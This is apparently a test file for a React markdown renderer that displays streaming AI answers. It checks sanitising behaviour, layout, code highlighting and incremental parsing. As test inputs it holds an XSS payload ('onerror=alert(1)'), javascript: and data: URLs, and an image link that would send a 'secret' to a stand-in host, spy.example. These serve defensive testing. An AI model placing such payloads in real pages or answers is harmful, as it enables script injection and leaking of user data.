import { render, screen } from "@testing-library/react";
import { expect, test } from "vitest";

import { EMPTY, grow, parse } from "../../src/text/markdown";
import { Rendered } from "../../src/text/Rendered";

test("HTML of a model is text", () => {
  const text = "<img src=x onerror=alert(1)>\n\nand <b onclick='x()'>inline</b>";
  const { container } = render(<Rendered text={text} />);

  expect(container.querySelectorAll("img, b, script")).toHaveLength(0);
  expect(container.textContent).toContain("<img src=x onerror=alert(1)>");
  expect(container.textContent).toContain("<b onclick='x()'>inline</b>");
});

test("a picture is never loaded: its source is shown", () => {
  const { container } = render(<Rendered text="![a](https://spy.example/?q=secret)" />);

  expect(container.querySelector("img")).toBeNull();
  expect(container.textContent).toBe("![a](https://spy.example/?q=secret)");
});

test.each([
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,x",
  "vbscript:x",
  "/api/sessions",
  "//spy.example",
])("an address that runs something or is not absolute is no link: %s", (address) => {
  const { container } = render(<Rendered text={`[click](<${address}>)`} />);

  expect(container.querySelector("a")).toBeNull();
  expect(container.textContent).toBe("click");
});

test("a link opens beside the page and tells nobody where it came from", () => {
  render(<Rendered text={"[the page](https://example.com/a) and [two][ref]\n\n[ref]: https://b.example"} />);

  const [first, second] = screen.getAllByRole("link");
  expect(first).toHaveProperty("href", "https://example.com/a");
  expect(first?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(first?.getAttribute("target")).toBe("_blank");
  expect(second).toHaveProperty("href", "https://b.example/");
});

test("numbers are kept across the text between two items", () => {
  const { container } = render(<Rendered text={"1. one\n\ntext\n\n2. two\n\ntext\n\n3. three"} />);

  const starts = [...container.querySelectorAll("ol")].map((list) => list.start);
  expect(starts).toEqual([1, 2, 3]);
});

test("lists nest, and tasks show whether they are done", () => {
  const { container } = render(<Rendered text={"- a\n  - b\n    1. c\n- [x] done\n- [ ] open"} />);

  expect(container.querySelector("ul ul ol li")?.textContent).toBe("c");
  const boxes = screen.getAllByRole<HTMLInputElement>("checkbox");
  expect(boxes.map(({ checked, disabled }) => [checked, disabled])).toEqual([
    [true, true],
    [false, true],
  ]);
});

test("a table has heads, cells and alignment", () => {
  const { container } = render(<Rendered text={"| a | b |\n|---|--:|\n| 1 | **2** |"} />);

  expect([...container.querySelectorAll("th")].map((cell) => cell.textContent)).toEqual(["a", "b"]);
  const cells = [...container.querySelectorAll("td")];
  expect(cells.map((cell) => cell.style.textAlign)).toEqual(["", "right"]);
  expect(cells[1]?.querySelector("strong")?.textContent).toBe("2");
});

test("quotes, strikethrough, rules and headings are elements", () => {
  const { container } = render(<Rendered text={"# Plan\n\n> said ~~twice~~\n\n---\n\nend"} />);

  expect(screen.getByRole("heading", { level: 3 }).textContent).toBe("Plan");
  expect(container.querySelector("blockquote del")?.textContent).toBe("twice");
  expect(container.querySelector("hr")).not.toBeNull();
});

test("code in a block is as it was written, marks included", () => {
  const { container } = render(<Rendered text={"```\nx = **y** # <b>\n  z\n```\nafter"} />);

  expect(container.querySelector("pre")?.textContent).toBe("x = **y** # <b>\n  z");
  expect(container.querySelector("pre strong")).toBeNull();
  expect(container.querySelector("p")?.textContent).toBe("after");
});

test("finished code is colored, and its text stays the same", async () => {
  const { container } = render(<Rendered text={"```python\nreturn '<b>'\n```"} />);

  await expect.poll(() => container.querySelector(".hljs-keyword")?.textContent).toBe("return");
  expect(container.querySelector("pre")?.textContent).toBe("return '<b>'");
});

const LONG = `# Title

First *paragraph* with a
second line.

1. one
2. two

   inside two

- [ ] task
  - nested

| a | b |
|---|---|
| 1 | 2 |

\`\`\`js
let a = 1;

let b;
\`\`\`

> quote
lazy line

Setext
======

    indented

***

end [link](https://example.com).`;

test("text that grows piece by piece ends as the whole does, wherever it was cut", () => {
  const whole = parse(LONG).map(({ offset, node }) => [offset, node.type]);
  for (let size = 1; size <= 40; size += 1) {
    let growth = EMPTY;
    for (let end = size; end < LONG.length + size; end += size) {
      growth = grow(growth, LONG.slice(0, end));
    }
    expect(growth.blocks.map(({ offset, node }) => [offset, node.type])).toEqual(whole);
  }
});

test("finished blocks keep their elements while the answer grows", () => {
  const start = "# Title\n\nfirst\n\nsecond";
  const { container, rerender } = render(<Rendered text={start} isGrowing />);
  const before = [...container.querySelectorAll("h3, p")].slice(0, 2);

  rerender(<Rendered text={`${start} grows\n\n- third`} isGrowing />);

  expect([...container.querySelectorAll("h3, p")].slice(0, 2)).toEqual(before);
  expect(before.every((element) => element.isConnected)).toBe(true);
  expect(container.querySelector("li")?.textContent).toBe("third");
});

test("a growing answer parses what is new, not the whole again", () => {
  let growth = EMPTY;
  let text = "";
  for (let count = 0; count < 200; count += 1) {
    text += `Paragraph ${count.toString()} of the answer.\n\n`;
    growth = grow(growth, text);
    expect(text.length - growth.open).toBeLessThan(120);
  }
  expect(growth.blocks).toHaveLength(200);
});
